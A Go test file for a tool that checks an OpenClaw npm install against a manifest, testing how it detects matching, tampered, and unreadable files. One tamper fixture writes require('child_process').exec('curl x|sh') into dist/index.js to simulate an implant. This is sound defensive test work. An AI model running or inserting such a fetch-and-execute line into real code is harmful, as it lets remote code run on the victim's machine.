package provenance

import (
	"os"
	"path"
	"path/filepath"
	"strings"
	"testing"

	"github.com/clawgov/clawgov/internal/finding"
	"github.com/clawgov/clawgov/internal/manifest"
	"github.com/clawgov/clawgov/internal/manifest/manifesttest"
	"github.com/clawgov/clawgov/internal/openclaw"
)

// fileMessages are the CG-INS-007 keys this file produces (and renders);
// TestEveryMessageRenders leaves them to it.
var fileMessages = []string{"files_match", "files_match_full", "files_differ", "files_differ_unlocated", "files_unreadable"}

const realRoot = "/usr/lib/node_modules/openclaw"

// realTree puts a private copy of the real OpenClaw install under a fresh
// rootfs, with no lockfile and no npm cache: the case most hosts are in.
func realTree(t *testing.T) *tree {
	t.Helper()
	src := manifesttest.RealInstall(t)
	tr := newTree(t)
	manifesttest.Copy(t, src, filepath.Join(tr.rootfs, filepath.FromSlash(realRoot)))
	tr.inv.Installs = append(tr.inv.Installs, openclaw.Install{Root: realRoot, Name: "openclaw", Version: manifesttest.Version,
		Repository: officialRepo, Bins: []string{"openclaw"}, Method: "npm-global", OnPath: true})
	return tr
}

func integrityFindings(fs []finding.Finding) []finding.Finding {
	var out []finding.Finding
	for _, f := range fs {
		if f.CheckID == CheckIntegrity {
			out = append(out, f)
		}
	}
	return out
}

func one(t *testing.T, fs []finding.Finding, st finding.Status, key string) finding.Finding {
	t.Helper()
	got := integrityFindings(fs)
	if len(got) != 1 || got[0].Status != st || got[0].MessageKey != key {
		t.Fatalf("want one CG-INS-007 %s/%s, got %+v", st, key, got)
	}
	return got[0]
}

func TestFileManifestDecidesWithoutLockfile(t *testing.T) {
	var all []finding.Finding

	tr := realTree(t)
	if facts := Gather(tr.inv, tr.inv.Installs[0]); len(facts.Integrity) != 0 {
		t.Fatalf("fixture has recorded integrity: %+v", facts.Integrity)
	}
	_, fs := tr.run(Engine{Manifest: manifest.Embedded})
	f := one(t, fs, finding.Pass, "files_match")
	if f.Params["files"] == "0" || f.Params["hashed"] == "0" || !strings.Contains(f.Evidence[0].Detail, "compared by path and size") {
		t.Errorf("pass evidence does not say what was compared: %+v", f)
	}
	all = append(all, f)
	_, fs = tr.run(Engine{Manifest: manifest.Embedded, FullIntegrity: true})
	all = append(all, one(t, fs, finding.Pass, "files_match_full"))

	// Unknown release (not in the manifest) and nothing recorded: manual.
	_, fs = tr.run(Engine{})
	one(t, fs, finding.Manual, "unrecorded")

	// Tampered: a modified dist file, an added file, a removed file.
	host := func(p string) string { return filepath.Join(tr.rootfs, filepath.FromSlash(path.Join(realRoot, p))) }
	manifesttest.Replace(t, host("dist/index.js"), []byte("require('child_process').exec('curl x|sh')\n"))
	manifesttest.Replace(t, host("dist/zz-implant.mjs"), []byte("evil"))
	if err := os.Remove(host("LICENSE")); err != nil {
		t.Fatal(err)
	}
	_, fs = tr.run(Engine{Manifest: manifest.Embedded})
	f = one(t, fs, finding.Fail, "files_differ")
	if f.Params["added"] != "1" || f.Params["removed"] != "1" || f.Params["modified"] != "1" {
		t.Errorf("counts: %v", f.Params)
	}
	named := map[string]string{}
	for _, ev := range f.Evidence {
		named[ev.File] = ev.Detail
	}
	for p, want := range map[string]string{"dist/index.js": "modified", "dist/zz-implant.mjs": "added", "LICENSE": "removed"} {
		if d := named[realRoot+"/"+p]; !strings.HasPrefix(d, want) {
			t.Errorf("%s: evidence %q, want %s (all: %v)", p, d, want, named)
		}
	}
	all = append(all, f)

	// Same-size edit of a content-hashed chunk: found in full mode only,
	// and not located (only sizes are stored for chunks).
	tr2 := realTree(t)
	m, _, _ := manifest.Embedded(manifesttest.Version)
	var chunk string
	for _, mf := range m.Files {
		if strings.HasPrefix(mf.Path, "dist/") && strings.HasSuffix(mf.Path, ".mjs") && !manifest.Decisive(mf.Path) && mf.Size > 64 {
			chunk = mf.Path
			break
		}
	}
	p := filepath.Join(tr2.rootfs, filepath.FromSlash(path.Join(realRoot, chunk)))
	manifesttest.Replace(t, p, manifesttest.SameSizeEdit(t, p))
	_, fs = tr2.run(Engine{Manifest: manifest.Embedded, FullIntegrity: true})
	all = append(all, one(t, fs, finding.Fail, "files_differ_unlocated"))

	// A package root that cannot be walked.
	tr3 := newTree(t)
	tr3.inv.Installs = []openclaw.Install{{Root: "/nowhere/openclaw", Name: "openclaw", Version: manifesttest.Version, Repository: officialRepo, Method: "npm-global"}}
	tr3.write("/nowhere/x", "")
	_, fs = tr3.run(Engine{Manifest: manifest.Embedded})
	all = append(all, one(t, fs, finding.Manual, "files_unreadable"))

	checkRendered(t, all)
	seen := map[string]bool{}
	for _, f := range all {
		seen[f.MessageKey] = true
	}
	for _, k := range fileMessages {
		if !seen[k] {
			t.Errorf("message CG-INS-007/%s not produced", k)
		}
	}
}
